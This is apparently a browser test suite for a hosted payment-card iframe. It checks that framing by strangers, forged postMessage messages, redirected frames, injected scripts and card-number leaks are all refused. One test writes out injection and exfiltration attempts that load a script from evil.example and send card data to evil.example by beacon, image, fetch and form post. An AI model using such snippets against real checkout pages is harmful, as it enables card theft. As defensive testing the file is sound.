"""What an attacker tries: other pages, forged messages, foreign scripts; where a PAN is found."""

from __future__ import annotations

import json

import pytest
from playwright.sync_api import Frame, Page, Route, expect

from tests.browser.conftest import set_origins, shop_origins
from tests.support.browser import FRAME, Merchant, Traffic, eventually, fill, serve_site

NUMBER = "4242424242424242"


def hosted(page: Page, merchant: Merchant) -> Frame:
    """The hosted document's frame."""
    (frame,) = [each for each in page.frames if each.url.startswith(f"{merchant.api_url}/checkout")]
    return frame


def test_an_unlisted_page_cannot_show_it(page: Page, merchant: Merchant) -> None:
    """The browser refuses; the page is told that nothing answers; a listed twin shows it."""
    secret = merchant.create_intent().client_secret
    assert secret is not None
    with serve_site() as stranger:
        stranger.html = merchant.page_html(secret)
        page.clock.install()
        said = []
        page.on("console", lambda message: said.append(message.text))
        page.goto(stranger.url)
        eventually(page, lambda: any("frame-ancestors" in text for text in said))
        page.clock.fast_forward(20_000)
        page.wait_for_function("told.length > 0")
        ((name, error),) = page.evaluate("told")
        assert (name, error["code"]) == ("error", "fields_unavailable")
        assert page.evaluate("confirm()")["refused"]["code"] == "not_ready"
        set_origins(merchant.stack, merchant.site.url, *shop_origins(merchant.stack), stranger.url)
        try:
            page.wait_for_timeout(400)  # twice as long as merchants are kept
            page.goto(stranger.url)
            expect(page.frame_locator(FRAME).get_by_label("Card number")).to_be_visible()
        finally:
            set_origins(merchant.stack, merchant.site.url, *shop_origins(merchant.stack))


def test_a_listed_page_within_a_stranger_cannot_show_it(page: Page, merchant: Merchant) -> None:
    """Every ancestor must be registered: an attacker's frame around the shop shows no form."""
    secret = merchant.create_intent().client_secret
    assert secret is not None
    merchant.site.html = merchant.page_html(secret)
    with serve_site() as stranger:
        stranger.html = f'<!doctype html><iframe src="{merchant.site.url}"></iframe>'
        said = []
        page.on("console", lambda message: said.append(message.text))
        page.goto(stranger.url)
        eventually(page, lambda: any("frame-ancestors" in text for text in said))


GREET = """([api, greeting]) => new Promise((done) => {
  const channel = new MessageChannel();
  channel.port1.onmessage = ({data}) => done(data.type);
  document.querySelector('iframe').contentWindow.postMessage(greeting, api, [channel.port2]);
  setTimeout(() => done(null), 300);
})"""

GREETING = {
    "turnout": "turnout.connect",
    "version": 1,
    "session": "0" * 32,
    "clientSecret": f"pi_{'0' * 22}_secret_{'x' * 32}",
    "appearance": {},
}


def test_forged_messages_are_not_heard(page: Page, merchant: Merchant) -> None:
    """Not from the page once it is connected, not from a sibling frame, not in another shape."""
    fields = merchant.open(page)
    fill(fields, NUMBER)
    page.evaluate(
        """([api, greeting]) => {
          const frame = document.querySelector('#card iframe').contentWindow;
          const channel = new MessageChannel();
          window.stolen = [];
          channel.port1.onmessage = ({data}) => window.stolen.push(data);
          frame.postMessage(greeting, api, [channel.port2]);
          for (const type of ['clear', 'confirm', 'read', 'focus', 'update'])
            frame.postMessage({session: greeting.session, type, id: 1}, api);
          const sibling = document.createElement('iframe');
          sibling.srcdoc = `<script>
            parent.document.querySelector('#card iframe').contentWindow
              .postMessage({type: 'clear'}, ${JSON.stringify(api)});<\\/script>`;
          document.body.append(sibling);
        }""",
        [merchant.api_url, GREETING],
    )
    page.wait_for_timeout(300)
    assert page.evaluate("stolen") == []
    expect(fields.get_by_label("Card number")).to_have_value("4242 4242 4242 4242")
    assert page.evaluate("confirm()")["status"] == "succeeded"


@pytest.mark.parametrize(
    "change",
    [{"turnout": "x"}, {"version": 2}, {"session": "1"}, {"clientSecret": "x"}, {"extra": 1}],
    ids=lambda change: next(iter(change)),
)
def test_a_greeting_of_another_shape_gets_no_answer(
    page: Page, merchant: Merchant, change: dict[str, object]
) -> None:
    """From the right origin and the right window; the true one is heard afterwards."""
    merchant.site.html = f"""<!doctype html><title>x</title>
      <iframe src="{merchant.api_url}/checkout/fields?key={merchant.key}"></iframe>"""
    page.goto(merchant.site.url)
    assert page.evaluate(GREET, [merchant.api_url, GREETING | change]) is None
    assert page.evaluate(GREET, [merchant.api_url, GREETING]) == "ready"
    assert page.evaluate(GREET, [merchant.api_url, GREETING]) is None  # a port is taken once


def test_a_sibling_of_the_right_origin_is_not_the_parent(page: Page, merchant: Merchant) -> None:
    """A frame beside it with the page's own origin greets in vain; the page itself does not."""
    merchant.site.html = f"""<!doctype html><title>x</title>
      <iframe src="{merchant.api_url}/checkout/fields?key={merchant.key}"></iframe>"""
    page.goto(merchant.site.url)
    answered = page.evaluate(
        """([api, greeting]) => new Promise((done) => {
          window.answered = done;
          const sibling = document.createElement('iframe');
          sibling.srcdoc = `<script>
            const channel = new MessageChannel();
            channel.port1.onmessage = ({data}) => parent.answered(data.type);
            parent.frames[0].postMessage(${JSON.stringify(greeting)},
              ${JSON.stringify(api)}, [channel.port2]);
            setTimeout(() => parent.answered('nothing'), 300);<\\/script>`;
          document.body.append(sibling);
        })""",
        [merchant.api_url, GREETING],
    )
    assert answered == "nothing"
    assert page.evaluate(GREET, [merchant.api_url, GREETING]) == "ready"


def test_without_its_policy_it_would_still_not_listen(page: Page, merchant: Merchant) -> None:
    """Where something in between has taken the header away: a stranger's page gets no answer."""

    def bare(route: Route) -> None:
        answer = route.fetch()
        kept = {
            name: value
            for name, value in answer.headers.items()
            if name != "content-security-policy"
        }
        route.fulfill(status=200, headers=kept, body=answer.text())

    page.route("**/checkout/fields?**", bare)
    with serve_site() as stranger:
        for site, said in ((stranger, None), (merchant.site, "ready")):
            site.html = f"""<!doctype html><title>x</title>
              <iframe src="{merchant.api_url}/checkout/fields?key={merchant.key}"></iframe>"""
            page.goto(site.url)
            expect(page.frame_locator("iframe").locator("#card")).to_be_attached()
            assert page.evaluate(GREET, [merchant.api_url, GREETING]) == said


def test_the_port_is_not_handed_to_another_document(page: Page, merchant: Merchant) -> None:
    """Where the frame shows somebody else's page by the time it has loaded."""
    secret = merchant.create_intent().client_secret
    assert secret is not None
    with serve_site() as stranger:
        stranger.html = """<script>onmessage = (event) => {
          parent.postMessage({stolen: event.data}, '*') }</script>"""
        page.route(
            "**/checkout/fields**",
            lambda route: route.fulfill(status=302, headers={"Location": stranger.url}),
        )
        merchant.site.html = merchant.page_html(secret) + (
            "<script>const stolen = []; onmessage = ({data}) => stolen.push(data)</script>"
        )
        page.goto(merchant.site.url)
        page.wait_for_timeout(500)
        assert page.evaluate("stolen") == []


def test_a_frame_that_was_led_elsewhere_gets_nothing(page: Page, merchant: Merchant) -> None:
    """Neither a stranger's document nor another one of ours is greeted once the form was ready."""
    fields = merchant.open(page)
    expect(fields.get_by_label("Card number")).to_be_visible()
    with serve_site() as stranger:
        stranger.html = """<script>onmessage = (event) => {
          parent.postMessage({stolen: event.data}, '*') }</script>"""
        page.evaluate("() => { window.stolen = []; onmessage = ({data}) => stolen.push(data) }")
        for url in (stranger.url, f"{merchant.api_url}/checkout/fields?key={merchant.key}"):
            with page.expect_event("framenavigated"):
                page.evaluate("(url) => { document.querySelector('iframe').src = url }", url)
            page.wait_for_timeout(200)
            assert page.evaluate("stolen") == []
    expect(page.frame_locator(FRAME).locator("#number")).to_be_hidden()


def test_the_loader_listens_to_nobody(page: Page, merchant: Merchant) -> None:
    """Messages to the merchant's window change nothing: there is no listener to forge at."""
    merchant.open(page)
    before = page.evaluate("told.length")
    page.evaluate(
        """() => { for (const type of ['error', 'submit', 'confirmed', 'ready'])
          postMessage({session: '0'.repeat(32), type, id: 1, error: {}, result: {}}, '*') }"""
    )
    page.wait_for_timeout(100)
    assert page.evaluate("told.length") == before
    listeners = page.evaluate(
        """fetch(document.scripts[0].src).then((r) => r.text())
          .then((text) => /addEventListener\\(.message|onmessage\\s*=/.test(
            text.replace(/port1\\.onmessage|\\w+\\.onmessage=\\(\\{data/g, '')))"""
    )
    assert listeners is False


def test_no_other_script_runs_in_it(page: Page, merchant: Merchant) -> None:
    """Inline, remote, by handler, by URL, by eval, by markup: all refused, and reported."""
    merchant.open(page)
    frame = hosted(page, merchant)
    refused = frame.evaluate(
        """async () => {
          const seen = [];
          document.addEventListener('securitypolicyviolation',
            (event) => seen.push(event.effectiveDirective));
          const attempt = (act) => { try { act(); } catch (error) { seen.push(error.name); } };
          const script = (set) => { const s = document.createElement('script'); set(s);
            document.head.append(s); };
          attempt(() => script((s) => { s.textContent = 'window.ran = 1'; }));
          attempt(() => script((s) => { s.src = 'https://evil.example/x.js'; }));
          attempt(() => { document.body.innerHTML = '<img src=x onerror="window.ran=2">'; });
          setTimeout(() => attempt(() => eval('window.ran = 3')));
          setTimeout(() => attempt(() => new Function('window.ran = 6')()));
          attempt(() => setTimeout('window.ran = 7'));
          attempt(() => { document.body.setAttribute('onclick', 'window.ran = 4');
            document.body.click(); });
          attempt(() => { location.href = 'javascript:window.ran=5'; });
          attempt(() => trustedTypes.createPolicy('mine', {createScript: (x) => x}));
          await fetch('https://evil.example/').catch((error) => seen.push('fetch'));
          const image = new Image(); image.src = 'https://evil.example/?4242';
          attempt(() => navigator.sendBeacon('https://evil.example/', '4242'));
          const inner = document.createElement('iframe'); inner.src = 'https://evil.example/';
          document.body.append(inner);
          const form = document.createElement('form'); form.action = 'https://evil.example/';
          document.body.append(form); attempt(() => form.submit());
          const style = document.createElement('style'); style.textContent = 'input{display:none}';
          document.head.append(style);
          await new Promise((done) => setTimeout(done, 300));
          return {seen, ran: window.ran ?? null};
        }"""
    )
    assert refused["ran"] is None
    seen = set(refused["seen"])
    directives = {"connect-src", "img-src", "frame-src", "form-action", "style-src-elem"}
    assert seen >= directives | {"TypeError", "fetch"}
    expect(page.frame_locator(FRAME).get_by_label("Card number")).to_be_visible()


def test_a_script_that_was_changed_does_not_run(page: Page, merchant: Merchant) -> None:
    """Its hash stands in the document."""
    secret = merchant.create_intent().client_secret
    assert secret is not None
    merchant.site.html = merchant.page_html(secret)
    said = []
    page.on("console", lambda message: said.append(message.text))

    def change(route: Route) -> None:
        answer = route.fetch()
        route.fulfill(response=answer, body=answer.text() + "\n//")

    page.route("**/checkout/fields-*.js", change)
    page.goto(merchant.site.url)
    eventually(page, lambda: any("integrity" in text for text in said))
    assert page.evaluate("told") == []


def test_a_page_can_pin_the_loader(page: Page, merchant: Merchant) -> None:
    """By the address and the hash of the inventory; one byte off, and it does not run."""
    inventory = page.request.get(f"{merchant.api_url}/checkout/inventory.json").json()
    loader = inventory["scripts"][0]
    for integrity, defined in ((loader["integrity"], "function"), ("sha384-AAAA", "undefined")):
        merchant.site.html = f"""<!doctype html><script src="{merchant.api_url}{loader["url"]}"
          integrity="{integrity}" crossorigin="anonymous"></script>"""
        page.goto(merchant.site.url)
        assert page.evaluate("typeof Turnout") == defined


def test_a_number_is_found_nowhere_but_in_the_ciphertext(page: Page, merchant: Merchant) -> None:
    """Not in the page, not in either document's markup, storage or events, nor in what is sent."""
    traffic = Traffic.of(page)
    fields = merchant.open(page)
    number = "5555555555554444"
    fill(fields, number)
    fields.get_by_label("Name on card").press("Tab")
    frame = hosted(page, merchant)
    assert frame.evaluate("document.getElementById('number').value") == "5555 5555 5555 4444"
    inside = frame.evaluate(
        "document.documentElement.outerHTML + JSON.stringify([localStorage, sessionStorage])"
    )
    assert page.evaluate("confirm()")["status"] == "succeeded"
    outside = page.content() + page.evaluate("JSON.stringify([told, localStorage, sessionStorage])")
    for text in (inside, outside, *traffic.texts()):
        plain = text.replace(" ", "")
        assert number not in plain
        assert number[8:] not in plain
    posts = [
        json.loads(request.post_data or "")
        for request in traffic.requests
        if request.method == "POST"
    ]
    assert [post["card"]["ciphertext"][:3] for post in posts] == ["v1."]
    assert frame.evaluate("document.cookie") == ""


def test_the_page_cannot_reach_into_it(page: Page, merchant: Merchant) -> None:
    """Another origin: neither its document nor the values that the customer types."""
    fill(merchant.open(page), NUMBER)
    reached = page.evaluate(
        """() => { const frame = document.querySelector('#card iframe');
          try { return frame.contentWindow.document.title } catch (e) { return e.name } }"""
    )
    assert reached == "SecurityError"
    assert page.evaluate("document.querySelector('#card iframe').contentDocument") is None
    names = page.evaluate("Object.getOwnPropertyNames(Object.getPrototypeOf(card)).sort()")
    assert names == [
        "clear",
        "confirm",
        "constructor",
        "destroy",
        "focus",
        "mount",
        "on",
        "unmount",
        "update",
    ]
    assert page.evaluate("Object.keys(card)") == []


def test_the_document_does_nothing_by_itself(page: Page, merchant: Merchant) -> None:
    """Opened outside of a page it shows no form and waits for nobody."""
    page.goto(f"{merchant.api_url}/checkout/fields?key={merchant.key}")
    expect(page.locator("#number")).to_be_hidden()
    page.evaluate("([api, greeting]) => postMessage(greeting, api)", [merchant.api_url, GREETING])
    page.wait_for_timeout(100)
    expect(page.locator("#number")).to_be_hidden()


def test_a_secret_key_in_a_page_is_refused(page: Page, merchant: Merchant) -> None:
    """Loudly, before anything is loaded with it."""
    merchant.open(page)
    code = "(() => { try { Turnout('sk_test_abcdef') } catch (error) { return error.code } })()"
    assert page.evaluate(code) == "secret_key"


def test_styles_cannot_load_or_hide(page: Page, merchant: Merchant) -> None:
    """What is allowed is applied, the rest named in an error."""
    appearance = """{rules: {input: {color: 'rgb(1, 2, 3)', backgroundImage: 'url(//evil.example)',
      position: 'fixed'}, body: {display: 'none'}}}"""
    fields = merchant.open(page, appearance=appearance)
    expect(fields.get_by_label("Card number")).to_have_css("color", "rgb(1, 2, 3)")
    (error,) = [value for name, value in page.evaluate("told") if name == "error"]
    assert error["code"] == "appearance_refused"
    for name in ("backgroundImage", "position", "body"):
        assert name in error["message"]
    page.evaluate("card.update({appearance: {rules: {input: {color: 'rgb(4, 5, 6)'}}}})")
    expect(fields.get_by_label("Card number")).to_have_css("color", "rgb(4, 5, 6)")
